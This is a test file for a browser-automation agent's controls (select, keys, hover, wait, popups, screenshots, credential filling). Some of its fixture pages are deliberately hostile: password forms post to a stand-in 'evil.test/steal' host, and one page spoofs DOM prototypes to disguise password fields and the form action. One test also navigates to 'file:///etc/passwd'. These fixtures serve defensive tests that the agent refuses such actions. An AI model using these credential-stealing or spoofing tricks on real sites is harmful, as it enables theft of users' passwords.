import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError } from '../../src/core/index.js';
import { CANARY_PASSWORD, options, refOf, useAgentFixture } from './agent-support.js';
import { html, startSite, type Site } from './support.js';

// The rest of the agent tools on the demo portal (bank.test) and a small test site (site.test).
describe('agent controls: select, keys, hover, back, wait, navigate, screenshot, fill (real Chromium)', () => {
  const fx = useAgentFixture();
  let site: Site;

  beforeAll(async () => {
    site = await startSite((req, res) => {
      if (req.url === '/hover') {
        return html(res, `<button id="b" onmouseenter="document.getElementById('tip').textContent='Tip shown'">Hover me</button><p id="tip"></p>`);
      }
      if (req.url === '/leaky-form') {
        return html(res, `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password"><button>Go</button></form>`);
      }
      if (req.url === '/lying-form') {
        // A page whose scripts make its password fields say "text" and its forms' action say "/ok".
        return html(
          res,
          `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password" autocomplete="current-password"><button>Go</button></form>` +
            `<form action="/ok" method="post"><label for="w">Secret word</label><input id="w" name="w" type="password"></form>` +
            `<script>Object.defineProperty(HTMLInputElement.prototype, 'type', { get() { return 'text'; } });` +
            `const get = Element.prototype.getAttribute; Element.prototype.getAttribute = function (name) { return name === 'action' ? '/ok' : name === 'autocomplete' || name === 'form' ? null : get.call(this, name); };</script>`,
        );
      }
      if (req.url === '/form-attribute') {
        // Honest: fields whose form is named by their form attribute, one posting here, one to evil.test.
        return html(
          res,
          `<form id="fine" action="/ok" method="post"></form><form id="leaky" action="http://evil.test:${site.port}/steal" method="post"><label>Inside <input name="i" type="password"></label></form>` +
            `<label for="w">Secret word</label><input id="w" name="w" type="password" form="fine"><label for="x">Other word</label><input id="x" name="x" type="password" form="leaky">` +
            `<form action="/ok"><label for="y">Borrowed word</label><input id="y" name="y" type="password" form="leaky"></form>`,
        );
      }
      if (req.url === '/opener') {
        return html(res, `<a href="/popup-page" target="_blank">Open a window</a>`);
      }
      if (req.url === '/popup-page') {
        return html(res, `<h1>The popup</h1>`);
      }
      if (req.url === '/slow-leave') {
        // Enter submits the form; a frame of another site (its own renderer process) holds the navigation back in its
        // beforeunload while the page's own thread is free, so the navigation's request comes well after the DOM went quiet.
        return html(res, `<form action="/left"><label for="q">Query</label><input id="q" name="q"></form><button type="button" onclick="setTimeout(() => { location.href = '/left?by=script'; }, 0)">Leave by script</button><iframe title="Holder" src="${site.url('frame.test', '/holder')}"></iframe>`);
      }
      if (req.url === '/holder') {
        return html(res, `<p>Holder</p><script>addEventListener('beforeunload', () => { const t = performance.now(); while (performance.now() - t < 600); })</script>`);
      }
      if (req.url?.startsWith('/left')) {
        return html(res, `<h1>Left</h1>`);
      }
      if (req.url === '/kept-form') {
        return html(
          res,
          `<form id="f" action="/left"><label for="q">Query</label><input id="q" name="q"></form>` +
            `<script>document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault(); const p = document.createElement('p'); p.textContent = 'Handled here'; document.body.append(p); })</script>`,
        );
      }
      if (req.url === '/dialog-form') {
        return html(res, `<dialog open><form method="dialog"><label for="n">Note</label><input id="n" name="n"></form></dialog>`);
      }
      if (req.url === '/later') {
        return html(res, `<p>Waiting</p><script>setTimeout(() => { const p = document.createElement('p'); p.textContent = 'Arrived later'; document.body.append(p); }, 300)</script>`);
      }
      html(res, '<p>Site</p>');
    });
  });
  afterAll(async () => {
    await site?.close();
  });

  const siteSession = (sessionId: string) => fx.openOn(sessionId, ['site.test']);

  it('selects an option, presses Enter to submit, goes back', async () => {
    const session = await fx.loggedIn('agent-actions-1');
    try {
      await session.agent.navigate(`${fx.base}/transfer`, options);
      const form = await session.agent.snapshot(options);
      await session.agent.type(refOf(form.text, 'textbox "To (IBAN)"'), 'DE89370400440532013000', options);
      await session.agent.type(refOf(form.text, 'textbox "Amount (EUR)"'), '2.50', options);
      const selected = await session.agent.selectOption(refOf(form.text, 'combobox "Purpose (optional)"'), ['savings'], options);
      expect(selected.target).toBe('combobox "Purpose (optional)"');
      const missing = await session.agent.selectOption(refOf(form.text, 'combobox "Purpose (optional)"'), ['lottery'], options).catch((error: unknown) => error);
      expect(missing).toMatchObject({ code: 'invalid_request' });
      const notAList = await session.agent.selectOption(refOf(form.text, 'textbox "Amount (EUR)"'), ['x'], options).catch((error: unknown) => error);
      expect(notAList).toMatchObject({ code: 'invalid_request' });

      const pressed = await session.agent.pressKey('Enter', options);
      expect(pressed.effect).toBe('navigated');
      const after = await session.agent.snapshot(options);
      expect(after.text).toContain('Sent €2.50 to DE89370400440532013000. Purpose: Savings.');
      await expect(session.agent.pressKey('Not A Key', options)).rejects.toMatchObject({ code: 'invalid_request' });

      await session.agent.navigate(`${fx.base}/accounts`, options);
      const back = await session.agent.goBack(options);
      expect(back.effect).toBe('navigated');
      expect(back.page.url).toBe(`${fx.base}/transfer`);
    } finally {
      await session.close();
    }
  });

  it('a key that submits a form, or a script that leaves, answers once the page it loads is there, however late its request starts; a submission the page keeps, or a dialog form, is no navigation', async () => {
    const session = await fx.pool.open({
      sessionId: 'agent-actions-submit',
      allowedHosts: ['site.test', 'frame.test'],
      allowInsecureHttp: true,
      policy: { downloads: 'block', uploads: 'block', clipboardCopy: 'deny', clipboardPaste: 'deny' },
      onEvent: (event) => fx.events.push(event),
    });
    /** Opens `path`, types `text` into its textbox `field` and sends Enter: as a key press, or as type's `submit`. */
    const submitOn = async (path: string, field: string, text: string, by: 'press_key' | 'type_submit') => {
      await session.agent.navigate(site.url('site.test', path), options);
      const ref = refOf((await session.agent.snapshot(options)).text, `textbox "${field}"`);
      if (by === 'type_submit') return session.agent.type(ref, text, { ...options, submit: true });
      await session.agent.type(ref, text, options);
      return session.agent.pressKey('Enter', options);
    };
    try {
      const left = await submitOn('/slow-leave', 'Query', 'statements', 'press_key');
      expect(left.effect).toBe('navigated');
      expect(left.page.url).toBe(site.url('site.test', '/left?q=statements'));
      // A page script that leaves (the navigate event, no submission): held back the same way.
      await session.agent.navigate(site.url('site.test', '/slow-leave'), options);
      const scripted = await session.agent.click(refOf((await session.agent.snapshot(options)).text, 'button "Leave by script"'), options);
      expect(scripted.effect).toBe('navigated');
      expect(scripted.page.url).toBe(site.url('site.test', '/left?by=script'));

      const handled = await submitOn('/kept-form', 'Query', 'x', 'type_submit');
      expect(handled.effect).toBe('changed');
      expect(handled.page.url).toBe(site.url('site.test', '/kept-form'));
      expect((await session.agent.snapshot(options)).text).toContain('Handled here');

      const closed = await submitOn('/dialog-form', 'Note', 'done', 'press_key');
      expect(closed.effect).toBe('changed');
      expect(closed.page.url).toBe(site.url('site.test', '/dialog-form'));
    } finally {
      await session.close();
    }
  });

  it('hovers by ref (the page reacts); waits for text, a ref and a URL, and times out with wait_timed_out', async () => {
    const session = await siteSession('agent-actions-2');
    try {
      await session.agent.navigate(site.url('site.test', '/hover'), options);
      const snap = await session.agent.snapshot(options);
      const hovered = await session.agent.hover(refOf(snap.text, 'button "Hover me"'), options);
      expect(hovered).toMatchObject({ effect: 'changed', target: 'button "Hover me"' });
      expect((await session.agent.snapshot(options)).text).toContain('Tip shown');

      await session.agent.navigate(site.url('site.test', '/later'), options);
      const met = await session.agent.waitFor({ text: 'Arrived later' }, 20_000, options);
      expect(met.page.url).toBe(site.url('site.test', '/later'));
      const refSnap = await session.agent.snapshot(options);
      await session.agent.waitFor({ ref: refOf(refSnap.text, 'Arrived later') }, 5_000, options);
      await session.agent.waitFor({ url: '/later' }, 5_000, options);
      await session.agent.waitFor({ url: '**/later' }, 5_000, options);

      const timedOut = await session.agent.waitFor({ text: 'Never on this page' }, 500, options).catch((error: unknown) => error);
      expect(timedOut).toBeInstanceOf(AppError);
      expect(timedOut).toMatchObject({ code: 'wait_timed_out', status: 408 });
      await expect(session.agent.waitFor({ url: '/elsewhere' }, 300, options)).rejects.toMatchObject({ code: 'wait_timed_out' });
      await expect(session.agent.waitFor({ text: 'a', url: 'b' }, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
      await expect(session.agent.waitFor({}, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
    } finally {
      await session.close();
    }
  });

  it('a click that opens a popup: the popup becomes the active tab and the result names it', async () => {
    const session = await siteSession('agent-actions-8');
    try {
      await session.agent.navigate(site.url('site.test', '/opener'), options);
      const snap = await session.agent.snapshot(options);
      const opened = await session.agent.click(refOf(snap.text, 'link "Open a window"'), options);
      expect(opened).toMatchObject({ effect: 'navigated', page: { url: site.url('site.test', '/popup-page') } });
      const inPopup = await session.agent.snapshot(options);
      expect(inPopup).toMatchObject({ tabs: 2 });
      expect(inPopup.text).toContain('heading "The popup"');
    } finally {
      await session.close();
    }
  });

  it('navigating outside the allowlist is forbidden and reported as blocked; the session goes on', async () => {
    const session = await fx.loggedIn('agent-actions-3');
    try {
      const refused = await session.agent.navigate(`http://evil.test:${new URL(fx.base).port}/`, options).catch((error: unknown) => error);
      expect(refused).toMatchObject({ code: 'forbidden' });
      expect(fx.events).toContainEqual(expect.objectContaining({ type: 'blocked', what: 'navigation', url: `http://evil.test:${new URL(fx.base).port}/` }));
      await expect(session.agent.navigate('file:///etc/passwd', options)).rejects.toMatchObject({ code: 'forbidden' });
      const still = await session.agent.snapshot(options);
      expect(still.page.url).toBe(`${fx.base}/accounts`);
      expect(still.text).toContain('€12,345.67');
    } finally {
      await session.close();
    }
  });

  it('a screenshot is a JPEG of the viewport', async () => {
    const session = await fx.loggedIn('agent-actions-4');
    try {
      const shot = await session.agent.screenshot(options);
      expect(shot.jpeg.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
      expect(shot).toMatchObject({ width: 1280, height: 720, page: { url: `${fx.base}/accounts` } });
    } finally {
      await session.close();
    }
  });

  it("fills a credential into a page's password field; its value is redacted from snapshots even without the vault's values", async () => {
    const session = await fx.loggedIn('agent-actions-5');
    try {
      await session.agent.navigate(`${fx.base}/login`, options);
      const form = await session.agent.snapshot(options);
      const secret = Buffer.from(CANARY_PASSWORD);
      const filled = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), secret, { ...options, secret: 'password' });
      expect(filled).toMatchObject({ target: 'textbox "Password"', field: 'password' });
      const after = await session.agent.snapshot(options);
      expect(after.text).toMatch(/textbox "Password"[^\n]*: \[REDACTED\]/);
      // The page's password-field values are redacted on their own (a value the agent typed itself, too).
      const bare = await session.agent.snapshot({ redact: { values: () => [] } });
      expect(bare.text).toMatch(/textbox "Password"[^\n]*: \[REDACTED\]/);
      expect(JSON.stringify([filled, after, bare])).not.toContain(CANARY_PASSWORD);
      const notAField = await session.agent.fillCredential(refOf(form.text, 'button "Sign in"'), secret, { ...options, secret: 'password' }).catch((error: unknown) => error);
      expect(notAField).toMatchObject({ code: 'invalid_request' });
    } finally {
      await session.close();
    }
  });

  it('refuses to fill a credential into a form that posts to a host the asset does not allow', async () => {
    const session = await siteSession('agent-actions-6');
    try {
      await session.agent.navigate(site.url('site.test', '/leaky-form'), options);
      const form = await session.agent.snapshot(options);
      const refused = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), Buffer.from(CANARY_PASSWORD), { ...options, secret: 'password' }).catch((error: unknown) => error);
      expect(refused).toMatchObject({ code: 'forbidden' });
      expect((await session.agent.snapshot(options)).text).not.toMatch(/textbox "Password"[^\n]*: /);
    } finally {
      await session.close();
    }
    expect(fx.logs.text()).not.toContain(CANARY_PASSWORD);
  });

  it("a page that overrides the DOM's prototypes (type says text, getAttribute lies): typing into its password field is still a password field's, a foreign form action still refused", async () => {
    const session = await siteSession('agent-actions-8');
    try {
      await session.agent.navigate(site.url('site.test', '/lying-form'), options);
      const form = await session.agent.snapshot(options);
      // What the audit's masking goes by (mcp-tools.ts masks `text` unless the field is 'text').
      const typed = await session.agent.type(refOf(form.text, 'textbox "Password"'), 'typed-by-agent-0042', options);
      expect(typed.field).toBe('password');
      const refused = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), Buffer.from(CANARY_PASSWORD), { ...options, secret: 'password' }).catch((error: unknown) => error);
      expect(refused).toMatchObject({ code: 'forbidden' });
      // A field whose form truly posts to the page's own host is filled, as before.
      const filled = await session.agent.fillCredential(refOf(form.text, 'textbox "Secret word"'), Buffer.from(CANARY_PASSWORD), { ...options, secret: 'password' });
      expect(filled).toMatchObject({ target: 'textbox "Secret word"', field: 'password' });
      expect((await session.agent.type(refOf(form.text, 'textbox "Secret word"'), 'another-0042', options)).field).toBe('password');

      // An honest page: a form attribute names the field's form (over its ancestor form), checked the same way.
      await session.agent.navigate(site.url('site.test', '/form-attribute'), options);
      const named = await session.agent.snapshot(options);
      const fill = (name: string) => session.agent.fillCredential(refOf(named.text, `textbox "${name}"`), Buffer.from(CANARY_PASSWORD), { ...options, secret: 'password' }).catch((error: unknown) => error);
      expect(await fill('Secret word')).toMatchObject({ field: 'password' });
      expect(await fill('Other word')).toMatchObject({ code: 'forbidden' });
      expect(await fill('Borrowed word')).toMatchObject({ code: 'forbidden' });
      expect(await fill('Inside')).toMatchObject({ code: 'forbidden' });
    } finally {
      await session.close();
    }
    expect(fx.logs.text()).not.toContain(CANARY_PASSWORD);
  });

  it('refuses while the session is closed (session_ended)', async () => {
    const session = await fx.loggedIn('agent-actions-7');
    await session.close();
    await expect(session.agent.snapshot(options)).rejects.toMatchObject({ code: 'session_ended' });
    await expect(session.agent.click('e1', options)).rejects.toMatchObject({ code: 'session_ended' });
  });
});
